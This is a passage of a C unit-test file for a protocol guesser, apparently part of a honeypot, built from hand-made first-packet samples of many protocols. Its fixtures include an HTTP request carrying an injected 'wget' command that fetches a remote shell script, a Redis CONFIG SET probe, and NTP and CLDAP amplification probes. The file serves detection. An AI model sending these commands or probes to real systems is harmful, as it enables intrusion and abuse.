/*
 * test_protoguess.c - hp_protoguess() on real first-packet bytes.
 *
 * Every sample is written out by hand from its wire format (RFC / vendor
 * spec), with the length fields computed so that the structural checks in
 * protoguess.c pass only if the sample really is well formed.  Each input
 * is copied flush against a PROT_NONE page before the guess, so a read of
 * even one byte past the end faults here without ASan; the truncation test
 * does that for every prefix of every sample.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "intel/protoguess.h"
#include "guard_page.h"
#include "cpu_time.h"

#define TCP HP_GUESS_TCP
#define UDP HP_GUESS_UDP

/* ---- harness ------------------------------------------------------------- */

/* Keys whose value is static text rather than a pointer into the input. */
static int is_static_key(const char *key)
{
    return !strcmp(key, "modbus_function") || !strcmp(key, "smb_version") ||
           !strcmp(key, "snmp_version");
}

/* The invariants every result must satisfy, whatever the input. */
static void check_invariants(const struct hp_guess *g, const uint8_t *buf, size_t len)
{
    assert_non_null(g->proto);
    assert_true(g->proto[0] != '\0');
    assert_in_range(g->confidence, 0, 100);
    assert_in_range(g->ndetails, 0, HP_GUESS_MAX_DETAILS);
    for (int i = 0; i < g->ndetails; i++) {
        const struct hp_guess_detail *d = &g->details[i];
        assert_non_null(d->key);
        assert_non_null(d->value);
        assert_in_range(d->len, 1, HP_GUESS_DETAIL_MAX);
        if (is_static_key(d->key)) {
            assert_int_equal(strlen((const char *)d->value), d->len);
        } else {
            assert_true(d->value >= buf);
            assert_true(d->value + d->len <= buf + len);
        }
    }
    if (!strcmp(g->proto, "unknown"))
        assert_int_equal(g->confidence, 0);
}

/* Guess on a copy that ends exactly at the guard page. */
static void guess(const void *data, size_t len, enum hp_guess_transport t, struct hp_guess *g)
{
    const uint8_t *buf = guarded(data, len);
    memset(g, 0xa5, sizeof(*g));        /* the guesser must fill everything it reports */
    hp_protoguess(buf, len, t, g);
    check_invariants(g, buf, len);
}

static const struct hp_guess_detail *find_detail(const struct hp_guess *g, const char *key)
{
    for (int i = 0; i < g->ndetails; i++)
        if (!strcmp(g->details[i].key, key))
            return &g->details[i];
    return NULL;
}

static void assert_detail(const struct hp_guess *g, const char *key, const char *want)
{
    const struct hp_guess_detail *d = find_detail(g, key);
    if (!d)
        fail_msg("proto %s: detail %s missing (want \"%s\")", g->proto, key, want);
    if (d->len != strlen(want) || memcmp(d->value, want, d->len))
        fail_msg("detail %s: got \"%.*s\", want \"%s\"", key, (int)d->len,
                 (const char *)d->value, want);
}

static void assert_no_detail(const struct hp_guess *g, const char *key)
{
    if (find_detail(g, key))
        fail_msg("proto %s: unexpected detail %s", g->proto, key);
}

static void expect(const void *data, size_t len, enum hp_guess_transport t, const char *proto,
                   int min_conf, struct hp_guess *g)
{
    guess(data, len, t, g);
    if (strcmp(g->proto, proto))
        fail_msg("got proto %s (%d), want %s", g->proto, g->confidence, proto);
    if (g->confidence < min_conf)
        fail_msg("proto %s: confidence %d < %d", proto, g->confidence, min_conf);
}

#define BIN(a) (a), sizeof(a)
#define TXT(s) (s), (sizeof(s) - 1)

/* ---- samples -------------------------------------------------------------- */

/* TLS 1.2/1.3 ClientHello: SNI example.com, ALPN h2 + http/1.1, supported_versions. */
static const uint8_t tls_client_hello[] = {
    0x16, 0x03, 0x01, 0x00, 0x5e,                       /* record: handshake, 3.1, 94 */
    0x01, 0x00, 0x00, 0x5a,                             /* ClientHello, 90 */
    0x03, 0x03,                                         /* legacy_version 1.2 */
    0x00, 0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x0e, 0x0f,
    0x10, 0x11, 0x12, 0x13, 0x14, 0x15, 0x16, 0x17, 0x18, 0x19, 0x1a, 0x1b, 0x1c, 0x1d, 0x1e, 0x1f,
    0x00,                                               /* session id: empty */
    0x00, 0x04, 0x13, 0x01, 0xc0, 0x2f,                 /* cipher suites */
    0x01, 0x00,                                         /* compression: null */
    0x00, 0x2d,                                         /* extensions: 45 */
    0x00, 0x00, 0x00, 0x10, 0x00, 0x0e, 0x00, 0x00, 0x0b,   /* server_name: host_name, 11 */
    'e', 'x', 'a', 'm', 'p', 'l', 'e', '.', 'c', 'o', 'm',
    0x00, 0x10, 0x00, 0x0e, 0x00, 0x0c,                 /* ALPN, list 12 */
    0x02, 'h', '2', 0x08, 'h', 't', 't', 'p', '/', '1', '.', '1',
    0x00, 0x2b, 0x00, 0x03, 0x02, 0x03, 0x04,           /* supported_versions: 1.3 */
};
#define TLS_SNI_LEN_OFF 61                              /* HostName length, high byte */

/* SSLv2-compatible CLIENT-HELLO: 7 cipher specs, no session id, 16-byte challenge. */
static const uint8_t sslv2_hello[] = {
    0x80, 0x2e, 0x01, 0x00, 0x02, 0x00, 0x15, 0x00, 0x00, 0x00, 0x10,
    0x01, 0x00, 0x80, 0x02, 0x00, 0x80, 0x03, 0x00, 0x80, 0x04, 0x00, 0x80,
    0x05, 0x00, 0x80, 0x06, 0x00, 0x40, 0x07, 0x00, 0xc0,
    0x4d, 0x59, 0x2b, 0x1e, 0x90, 0x07, 0x33, 0x01, 0xaa, 0xbb, 0xcc, 0xdd, 0x10, 0x20, 0x30, 0x40,
};

/* mstsc: TPKT + X.224 CR + "Cookie: mstshash=Test" + rdpNegReq (TLS|CredSSP). */
static const uint8_t rdp_cookie[] = {
    0x03, 0x00, 0x00, 0x2a,
    0x25, 0xe0, 0x00, 0x00, 0x00, 0x00, 0x00,
    'C', 'o', 'o', 'k', 'i', 'e', ':', ' ', 'm', 's', 't', 's', 'h', 'a', 's', 'h', '=',
    'T', 'e', 's', 't', '\r', '\n',
    0x01, 0x00, 0x08, 0x00, 0x03, 0x00, 0x00, 0x00,
};

/* Load-balancer routing token instead of a cookie. */
static const uint8_t rdp_token[] = {
    0x03, 0x00, 0x00, 0x2f,
    0x2a, 0xe0, 0x00, 0x00, 0x00, 0x00, 0x00,
    'C', 'o', 'o', 'k', 'i', 'e', ':', ' ', 'm', 's', 't', 's', '=',
    '3', '6', '4', '0', '2', '0', '5', '2', '2', '8', '.', '1', '5', '6', '2', '9', '.',
    '0', '0', '0', '0', '\r', '\n',
};

/* rdpNegReq only, no cookie (many scanners). */
static const uint8_t rdp_negreq[] = {
    0x03, 0x00, 0x00, 0x13, 0x0e, 0xe0, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x01, 0x00, 0x08, 0x00, 0x0b, 0x00, 0x00, 0x00,
};

/* nmap s7-info: COTP CR with calling TSAP 0x0100, called TSAP 0x0102, TPDU size 1024. */
static const uint8_t s7_cotp_cr[] = {
    0x03, 0x00, 0x00, 0x16,
    0x11, 0xe0, 0x00, 0x00, 0x00, 0x01, 0x00,
    0xc1, 0x02, 0x01, 0x00, 0xc2, 0x02, 0x01, 0x02, 0xc0, 0x01, 0x0a,
};

/* S7comm Setup Communication in a COTP DT TPDU. */
static const uint8_t s7_setup[] = {
    0x03, 0x00, 0x00, 0x19,
    0x02, 0xf0, 0x80,
    0x32, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x08, 0x00, 0x00,    /* job, param 8 */
    0xf0, 0x00, 0x00, 0x01, 0x00, 0x01, 0x01, 0xe0,                /* setup: 1/1, PDU 480 */
};

/* SMB1 NEGOTIATE offering "NT LM 0.12". */
static const uint8_t smb1_negotiate[] = {
    0x00, 0x00, 0x00, 0x2f,
    0xff, 'S', 'M', 'B', 0x72, 0x00, 0x00, 0x00, 0x00, 0x18, 0x01, 0x28,
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x00, 0x00, 0x2f, 0x4b, 0x00, 0x00, 0xc5, 0x5e,
    0x00, 0x0c, 0x00, 0x02, 'N', 'T', ' ', 'L', 'M', ' ', '0', '.', '1', '2', 0x00,
};

/* SMB2 NEGOTIATE offering 2.0.2 and 2.1. */
static const uint8_t smb2_negotiate[] = {
    0x00, 0x00, 0x00, 0x68,
    0xfe, 'S', 'M', 'B', 0x40, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,                 /* flags, next command */
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,                 /* message id */
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,                 /* reserved, tree id */
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,                 /* session id */
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x24, 0x00, 0x02, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x11, 0x22, 0x33, 0x44, 0x55, 0x66, 0x77, 0x88, 0x99, 0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff, 0x00,
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x02, 0x02, 0x10, 0x02,
};

/* NetBIOS SESSION REQUEST to "*SMBSERVER". */
static const uint8_t netbios_req[] = {
    0x81, 0x00, 0x00, 0x44,
    0x20, 'C', 'K', 'F', 'D', 'E', 'N', 'E', 'C', 'F', 'D', 'E', 'F', 'F', 'C', 'F', 'G',
    'E', 'F', 'F', 'C', 'C', 'A', 'C', 'A', 'C', 'A', 'C', 'A', 'C', 'A', 'C', 'A', 0x00,
    0x20, 'E', 'O', 'E', 'B', 'E', 'N', 'E', 'E', 'E', 'F', 'E', 'P', 'F', 'C', 'E', 'D',
    'E', 'F', 'F', 'C', 'C', 'A', 'C', 'A', 'C', 'A', 'C', 'A', 'C', 'A', 'A', 'A', 0x00,
};

/* TDS PRELOGIN: VERSION, ENCRYPTION, INSTOPT, THREADID, MARS. */
static const uint8_t mssql_prelogin[] = {
    0x12, 0x01, 0x00, 0x2f, 0x00, 0x00, 0x01, 0x00,
    0x00, 0x00, 0x1a, 0x00, 0x06, 0x01, 0x00, 0x20, 0x00, 0x01, 0x02, 0x00, 0x21, 0x00, 0x01,
    0x03, 0x00, 0x22, 0x00, 0x04, 0x04, 0x00, 0x26, 0x00, 0x01, 0xff,
    0x09, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
};

/* adb CNXN: version 0x01000001, maxdata 1 MiB, banner of 67 bytes (no NUL). */
static const uint8_t adb_cnxn[] = {
    0x43, 0x4e, 0x58, 0x4e, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x10, 0x00,
    0x43, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0xbc, 0xb1, 0xa7, 0xb1,
    'h', 'o', 's', 't', ':', ':', 'f', 'e', 'a', 't', 'u', 'r', 'e', 's', '=',
    's', 'h', 'e', 'l', 'l', '_', 'v', '2', ',', 'c', 'm', 'd', ',', 's', 't', 'a', 't', '_',
    'v', '2', ',', 'l', 's', '_', 'v', '2', ',', 'f', 'i', 'x', 'e', 'd', '_', 'p', 'u', 's',
    'h', '_', 'm', 'k', 'd', 'i', 'r', ',', 'a', 'p', 'e', 'x', ',', 'a', 'b', 'b',
};

/* MQTT 3.1.1 CONNECT: clean session, user "admin", password "public". */
static const uint8_t mqtt_connect[] = {
    0x10, 0x21, 0x00, 0x04, 'M', 'Q', 'T', 'T', 0x04, 0xc2, 0x00, 0x3c,
    0x00, 0x06, 'c', 'l', 'i', 'e', 'n', 't',
    0x00, 0x05, 'a', 'd', 'm', 'i', 'n',
    0x00, 0x06, 'p', 'u', 'b', 'l', 'i', 'c',
};

/* MQTT 3.1 ("MQIsdp", level 3), client id only. */
static const uint8_t mqtt31_connect[] = {
    0x10, 0x12, 0x00, 0x06, 'M', 'Q', 'I', 's', 'd', 'p', 0x03, 0x02, 0x00, 0x3c,
    0x00, 0x04, 'm', 'o', 's', 'q',
};

/* MongoDB OP_QUERY admin.$cmd { isMaster: 1 } (legacy drivers, scanners). */
static const uint8_t mongo_query[] = {
    0x3a, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0xd4, 0x07, 0x00, 0x00,
    0x00, 0x00, 0x00, 0x00,
    'a', 'd', 'm', 'i', 'n', '.', '$', 'c', 'm', 'd', 0x00,
    0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff,
    0x13, 0x00, 0x00, 0x00, 0x10, 'i', 's', 'M', 'a', 's', 't', 'e', 'r', 0x00,
    0x01, 0x00, 0x00, 0x00, 0x00,
};

/* MongoDB OP_MSG { hello: 1, $db: "admin" }. */
static const uint8_t mongo_msg[] = {
    0x34, 0x00, 0x00, 0x00, 0x07, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0xdd, 0x07, 0x00, 0x00,
    0x00, 0x00, 0x00, 0x00, 0x00,
    0x1f, 0x00, 0x00, 0x00,
    0x10, 'h', 'e', 'l', 'l', 'o', 0x00, 0x01, 0x00, 0x00, 0x00,
    0x02, '$', 'd', 'b', 0x00, 0x06, 0x00, 0x00, 0x00, 'a', 'd', 'm', 'i', 'n', 0x00,
    0x00,
};

/* PostgreSQL StartupMessage, protocol 3.0. */
static const uint8_t pg_startup[] = {
    0x00, 0x00, 0x00, 0x3f, 0x00, 0x03, 0x00, 0x00,
    'u', 's', 'e', 'r', 0, 'p', 'o', 's', 't', 'g', 'r', 'e', 's', 0,
    'd', 'a', 't', 'a', 'b', 'a', 's', 'e', 0, 'p', 'o', 's', 't', 'g', 'r', 'e', 's', 0,
    'a', 'p', 'p', 'l', 'i', 'c', 'a', 't', 'i', 'o', 'n', '_', 'n', 'a', 'm', 'e', 0,
    'p', 's', 'q', 'l', 0, 0,
};
static const uint8_t pg_sslrequest[] = { 0x00, 0x00, 0x00, 0x08, 0x04, 0xd2, 0x16, 0x2f };
static const uint8_t pg_gssenc[] = { 0x00, 0x00, 0x00, 0x08, 0x04, 0xd2, 0x16, 0x30 };

/* Modbus/TCP: read holding registers 0..9 from unit 1. */
static const uint8_t modbus_rhr[] = {
    0x00, 0x01, 0x00, 0x00, 0x00, 0x06, 0x01, 0x03, 0x00, 0x00, 0x00, 0x0a,
};
/* Modbus/TCP: Read Device Identification (FC 43 / MEI 14), as nmap sends. */
static const uint8_t modbus_devid[] = {
    0x00, 0x00, 0x00, 0x00, 0x00, 0x05, 0x00, 0x2b, 0x0e, 0x01, 0x00,
};

static const uint8_t socks4_connect[] = { 0x04, 0x01, 0x00, 0x50, 0x5d, 0xb8, 0xd8, 0x22, 'r', 'o', 'o', 't', 0x00 };
static const uint8_t socks4a_connect[] = {
    0x04, 0x01, 0x01, 0xbb, 0x00, 0x00, 0x00, 0x01, 0x00,
    'e', 'x', 'a', 'm', 'p', 'l', 'e', '.', 'c', 'o', 'm', 0x00,
};
static const uint8_t socks5_hello[] = { 0x05, 0x02, 0x00, 0x02 };
/* curl pipelines nothing, but some bots send greeting + CONNECT at once */
static const uint8_t socks5_pipelined[] = {
    0x05, 0x01, 0x00, 0x05, 0x01, 0x00, 0x01, 0x5d, 0xb8, 0xd8, 0x22, 0x00, 0x50,
};

/* Client option negotiation: WILL NAWS, WILL TSPEED, WILL TTYPE. */
static const uint8_t telnet_will[] = { 0xff, 0xfb, 0x1f, 0xff, 0xfb, 0x20, 0xff, 0xfb, 0x18 };

static const uint8_t java_rmi[] = { 'J', 'R', 'M', 'I', 0x00, 0x02, 0x4b };

/* Bitcoin mainnet "version" (protocol 70015, user agent /Satoshi:0.16.0/). */
static const uint8_t btc_version[] = {
    0xf9, 0xbe, 0xb4, 0xd9, 'v', 'e', 'r', 's', 'i', 'o', 'n', 0, 0, 0, 0, 0,
    0x66, 0x00, 0x00, 0x00, 0x12, 0x34, 0x56, 0x78,                 /* length 102, checksum */
    0x7f, 0x11, 0x01, 0x00,                                         /* version */
    0x09, 0x04, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,                 /* services */
    0x80, 0x3c, 0x9a, 0x65, 0x00, 0x00, 0x00, 0x00,                 /* timestamp */
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,                 /* addr_recv */
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0x01, 0x02, 0x03, 0x04,
    0x20, 0x8d,
    0x09, 0x04, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,                 /* addr_from */
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0x05, 0x06, 0x07, 0x08,
    0x20, 0x8d,
    0x11, 0x22, 0x33, 0x44, 0x55, 0x66, 0x77, 0x88,                 /* nonce */
    0x10, '/', 'S', 'a', 't', 'o', 's', 'h', 'i', ':', '0', '.', '1', '6', '.', '0', '/',
    0x00, 0x00, 0x00, 0x00, 0x01,                                   /* start height, relay */
};

/* DNS query example.com A IN, over UDP and with the TCP length prefix. */
static const uint8_t dns_query[] = {
    0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x07, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 0x03, 'c', 'o', 'm', 0x00, 0x00, 0x01, 0x00, 0x01,
};
static const uint8_t dns_tcp_query[] = {
    0x00, 0x1d,
    0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x07, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 0x03, 'c', 'o', 'm', 0x00, 0x00, 0x01, 0x00, 0x01,
};
/* version.bind CH TXT (fingerprinting). */
static const uint8_t dns_version_bind[] = {
    0xab, 0xcd, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x07, 'v', 'e', 'r', 's', 'i', 'o', 'n', 0x04, 'b', 'i', 'n', 'd', 0x00, 0x00, 0x10, 0x00, 0x03,
};

/* NTP monlist (mode 7, impl XNTPD, req MON_GETLIST_1) as used by amplification scans. */
static const uint8_t ntp_monlist[] = { 0x17, 0x00, 0x03, 0x2a, 0x00, 0x00, 0x00, 0x00 };

/* SNMPv2c GetRequest sysDescr.0, community "public". */
static const uint8_t snmp_get[] = {
    0x30, 0x29, 0x02, 0x01, 0x01, 0x04, 0x06, 'p', 'u', 'b', 'l', 'i', 'c',
    0xa0, 0x1c, 0x02, 0x04, 0x12, 0x34, 0x56, 0x78, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00,
    0x30, 0x0e, 0x30, 0x0c, 0x06, 0x08, 0x2b, 0x06, 0x01, 0x02, 0x01, 0x01, 0x01, 0x00, 0x05, 0x00,
};

/* LDAP simple bind as cn=admin,dc=example,dc=com. */
static const uint8_t ldap_bind[] = {
    0x30, 0x2c, 0x02, 0x01, 0x01, 0x60, 0x27, 0x02, 0x01, 0x03,
    0x04, 0x1a, 'c', 'n', '=', 'a', 'd', 'm', 'i', 'n', ',', 'd', 'c', '=', 'e', 'x', 'a', 'm',
    'p', 'l', 'e', ',', 'd', 'c', '=', 'c', 'o', 'm',
    0x80, 0x06, 's', 'e', 'c', 'r', 'e', 't',
};
/* CLDAP rootDSE search (objectClass present), the reflection probe. */
static const uint8_t ldap_search[] = {
    0x30, 0x25, 0x02, 0x01, 0x01, 0x63, 0x20, 0x04, 0x00, 0x0a, 0x01, 0x00, 0x0a, 0x01, 0x00,
    0x02, 0x01, 0x00, 0x02, 0x01, 0x00, 0x01, 0x01, 0x00,
    0x87, 0x0b, 'o', 'b', 'j', 'e', 'c', 't', 'C', 'l', 'a', 's', 's', 0x30, 0x00,
};

static const uint8_t memcached_udp_stats[] = {
    0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 's', 't', 'a', 't', 's', '\r', '\n',
};
/* Binary protocol VERSION request. */
static const uint8_t memcached_bin_version[] = {
    0x80, 0x0b, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
};

/* DTLS 1.2 ClientHello record header plus the start of the handshake. */
static const uint8_t dtls_hello[] = {
    0x16, 0xfe, 0xfd, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x40,
    0x01, 0x00, 0x00, 0x34, 0x00, 0x00,
};

/* QUIC v1 Initial (the first bytes: long header, version 1, 8-byte DCID, empty SCID, no token)
 * padded to 1200 bytes as clients must; a scanner's reserved-version probe. */
static uint8_t quic_initial[1200] = { 0xc3, 0x00, 0x00, 0x00, 0x01, 0x08, 1, 2, 3, 4, 5, 6, 7, 8, 0x00, 0x00,
                                      0x44, 0x9e };
static const uint8_t quic_reserved[] = { 0xca, 0x1a, 0x2a, 0x3a, 0x4a, 0x04, 1, 2, 3, 4, 0x00 };
/* NTPv4 client with LI 3 (unsynchronised): 0xe3 has the two top bits QUIC's long header has. */
static uint8_t ntp_li3[48] = { 0xe3, 0x00, 0x06, 0xec, [40] = 0xe9, 0x1c, 0x2a, 0x10 };

/* NTPv4 client request: 48 bytes, LI 0, VN 4, mode 3, transmit timestamp set. */
static uint8_t ntp_client[48] = { 0x23, [40] = 0xe9, 0x1c, 0x2a, 0x10, 0x00, 0x00, 0x00, 0x01 };

static const char http_get[] =
    "GET /shell?cd+/tmp;wget+http://1.2.3.4/x.sh HTTP/1.1\r\n"
    "Host: 10.0.0.1:80\r\n"
    "User-Agent: Hello, world\r\n"
    "Accept: */*\r\n\r\n";

static const char http_jsonrpc[] =
    "POST / HTTP/1.1\r\n"
    "Host: 10.0.0.1:8545\r\n"
    "User-Agent: Go-http-client/1.1\r\n"
    "Content-Length: 60\r\n"
    "Content-Type: application/json\r\n\r\n"
    "{\"jsonrpc\":\"2.0\",\"method\":\"eth_accounts\",\"params\":[],\"id\":1}";

static const char sip_options[] =
    "OPTIONS sip:100@10.0.0.1 SIP/2.0\r\n"
    "Via: SIP/2.0/UDP 192.0.2.7:5060;branch=z9hG4bK-2870119138;rport\r\n"
    "Content-Length: 0\r\n"
    "From: \"sipvicious\"<sip:100@1.1.1.1>;tag=6434396633623535\r\n"
    "Accept: application/sdp\r\n"
    "User-Agent: friendly-scanner\r\n"
    "To: \"sipvicious\"<sip:100@1.1.1.1>\r\n"
    "Contact: sip:100@192.0.2.7:5060\r\n"
    "CSeq: 1 OPTIONS\r\n"
    "Call-ID: 1234567890\r\n"
    "Max-Forwards: 70\r\n\r\n";

static const char sip_register[] =
    "REGISTER sip:10.0.0.1 SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.7:5060\r\nCSeq: 1 REGISTER\r\n\r\n";

static const char rtsp_options[] = "OPTIONS rtsp://10.0.0.1:554/ RTSP/1.0\r\nCSeq: 1\r\n\r\n";
static const char rtsp_describe[] =
    "DESCRIBE rtsp://10.0.0.1/live/ch00_0 RTSP/1.0\r\nCSeq: 2\r\nUser-Agent: LibVLC/3.0.18\r\n\r\n";

static const char ssdp_msearch[] =
    "M-SEARCH * HTTP/1.1\r\n"
    "HOST: 239.255.255.250:1900\r\n"
    "MAN: \"ssdp:discover\"\r\n"
    "MX: 1\r\n"
    "ST: ssdp:all\r\n\r\n";

static const char ssh_banner[] = "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.1\r\n";
static const char vnc_version[] = "RFB 003.008\n";
static const char redis_ping[] = "*1\r\n$4\r\nPING\r\n";
static const char redis_config[] = "*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$4\r\n/tmp\r\n";
static const char jsonrpc_raw[] = "{\"jsonrpc\":\"2.0\",\"method\":\"eth_blockNumber\",\"params\":[],\"id\":1}\n";
static const char stratum[] = "{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": [\"cpuminer/2.5\"]}\n";

/* ---- tests: binary protocols ---------------------------------------------- */

static void test_empty(void **state)
{
    (void)state;
    struct hp_guess g;
    expect("", 0, TCP, "empty", 100, &g);
    assert_int_equal(g.ndetails, 0);
    hp_protoguess(NULL, 0, UDP, &g);
    assert_string_equal(g.proto, "empty");
    hp_protoguess(NULL, 10, TCP, &g);      /* no data is no data, whatever len says */
    assert_string_equal(g.proto, "empty");
}

static void test_tls(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(BIN(tls_client_hello), TCP, "tls", 90, &g);
    assert_detail(&g, "tls_sni", "example.com");
    assert_detail(&g, "tls_alpn", "h2");
    expect(BIN(tls_client_hello), UDP, "tls", 90, &g);

    /* SNI length lying past the extension: still TLS, no SNI */
    uint8_t lie[sizeof(tls_client_hello)];
    memcpy(lie, tls_client_hello, sizeof(lie));
    assert_int_equal(lie[TLS_SNI_LEN_OFF + 1], 0x0b);
    lie[TLS_SNI_LEN_OFF] = 0xff;
    expect(BIN(lie), TCP, "tls", 90, &g);
    assert_no_detail(&g, "tls_sni");
    assert_detail(&g, "tls_alpn", "h2");

    /* cut inside the host name: a partial name is not reported */
    expect(tls_client_hello, TLS_SNI_LEN_OFF + 2 + 4, TCP, "tls", 90, &g);
    assert_no_detail(&g, "tls_sni");

    /* record header only, and a non-ClientHello handshake: weaker */
    static const uint8_t hdr[] = { 0x16, 0x03, 0x03, 0x00, 0x40 };
    expect(BIN(hdr), TCP, "tls", 50, &g);
    assert_true(g.confidence < 90);
    static const uint8_t server_hello[] = { 0x16, 0x03, 0x03, 0x00, 0x40, 0x02, 0x00, 0x00, 0x3c };
    expect(BIN(server_hello), TCP, "tls", 50, &g);
    assert_true(g.confidence < 90);

    /* impossible record length or version: not TLS */
    static const uint8_t huge[] = { 0x16, 0x03, 0x01, 0xff, 0xff, 0x01 };
    expect(BIN(huge), TCP, "unknown", 0, &g);
    static const uint8_t badver[] = { 0x16, 0x03, 0x05, 0x00, 0x40, 0x01 };
    expect(BIN(badver), TCP, "unknown", 0, &g);

    expect(BIN(sslv2_hello), TCP, "tls", 90, &g);
    expect(BIN(dtls_hello), UDP, "dtls", 90, &g);
}

static void test_ssh(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(TXT(ssh_banner), TCP, "ssh", 90, &g);
    assert_detail(&g, "ssh_version", "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.1");
    expect(TXT("SSH-2.0-Go"), TCP, "ssh", 90, &g);   /* no CRLF yet */
    assert_detail(&g, "ssh_version", "SSH-2.0-Go");
    expect(TXT("SSH-\r\n"), TCP, "ssh", 50, &g);
    assert_true(g.confidence < 90);
}

static void test_rdp(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(BIN(rdp_cookie), TCP, "rdp", 90, &g);
    assert_detail(&g, "rdp_cookie", "Test");
    assert_no_detail(&g, "rdp_token");

    expect(BIN(rdp_token), TCP, "rdp", 90, &g);
    assert_detail(&g, "rdp_token", "3640205228.15629.0000");
    assert_no_detail(&g, "rdp_cookie");

    expect(BIN(rdp_negreq), TCP, "rdp", 90, &g);
    assert_int_equal(g.ndetails, 0);

    /* cookie without its CR LF (cut): still RDP, the value is not reported */
    expect(rdp_cookie, 11 + 21, TCP, "rdp", 90, &g);
    assert_no_detail(&g, "rdp_cookie");

    /* TPKT length lying far beyond the data: parsed as far as it goes */
    uint8_t lie[sizeof(rdp_cookie)];
    memcpy(lie, rdp_cookie, sizeof(lie));
    lie[2] = 0xff;
    lie[3] = 0xff;
    expect(BIN(lie), TCP, "rdp", 90, &g);
    assert_detail(&g, "rdp_cookie", "Test");

    /* LI larger than the TPKT allows: not COTP */
    memcpy(lie, rdp_cookie, sizeof(lie));
    lie[4] = 0x30;
    expect(BIN(lie), TCP, "unknown", 0, &g);
}

static void test_s7(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(BIN(s7_cotp_cr), TCP, "s7", 90, &g);
    expect(BIN(s7_setup), TCP, "s7", 90, &g);

    /* same TPKT/CR shape with a cookie is RDP, not S7 */
    expect(BIN(rdp_cookie), TCP, "rdp", 90, &g);

    /* a DT TPDU carrying something that is not S7comm */
    uint8_t other[sizeof(s7_setup)];
    memcpy(other, s7_setup, sizeof(other));
    other[7] = 0x7f;
    expect(BIN(other), TCP, "unknown", 0, &g);
}

static void test_smb_netbios(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(BIN(smb1_negotiate), TCP, "smb", 90, &g);
    assert_detail(&g, "smb_version", "1");
    expect(BIN(smb2_negotiate), TCP, "smb", 90, &g);
    assert_detail(&g, "smb_version", "2");
    expect(BIN(netbios_req), TCP, "netbios-ssn", 90, &g);
    assert_detail(&g, "netbios_called", "CKFDENECFDEFFCFGEFFCCACACACACACA");
    assert_detail(&g, "netbios_calling", "EOEBENEEEFEPFCEDEFFCCACACACACAAA");

    static const uint8_t not_smb[] = { 0x00, 0x00, 0x00, 0x2f, 0xfd, 'S', 'M', 'X', 0x72 };
    expect(BIN(not_smb), TCP, "unknown", 0, &g);
}

static void test_mssql(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(BIN(mssql_prelogin), TCP, "mssql", 90, &g);
    uint8_t bad[sizeof(mssql_prelogin)];
    memcpy(bad, mssql_prelogin, sizeof(bad));
    bad[7] = 0x01;                      /* window must be 0 */
    expect(BIN(bad), TCP, "unknown", 0, &g);
}

static void test_adb(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(BIN(adb_cnxn), TCP, "adb", 90, &g);
    assert_detail(&g, "adb_banner",
                  "host::features=shell_v2,cmd,stat_v2,ls_v2,fixed_push_mkdir,apex,abb");

